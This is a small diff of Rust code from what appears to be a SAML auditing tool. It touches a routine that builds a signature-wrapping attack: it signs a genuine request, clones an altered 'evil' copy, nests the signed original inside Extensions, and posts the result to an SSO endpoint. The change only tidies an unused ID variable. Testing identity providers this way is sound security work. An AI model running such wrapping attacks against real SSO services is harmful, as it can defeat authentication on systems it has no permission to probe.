@@ -1125,7 +1125,7 @@ impl PsAudit {
             }
             Make::Wrapped => {
                 let x = self.sign(&base.to_xml(), signer)?;
-                let id = base.id.clone().unwrap_or_default();
+                // The evil request keeps the genuine one's ID: two elements with one ID.
                 let mut evil = base.clone();
                 evil.force_authn = Some(false);
                 let evil_xml = evil.to_xml();
@@ -1136,7 +1136,6 @@ impl PsAudit {
                     &format!("{inner}</saml2p:Extensions>"),
                     1,
                 );
-                let _ = id;
                 Ok((
                     w.clone(),
                     self.post(http, sso, &STANDARD.encode(&w), None).await?,
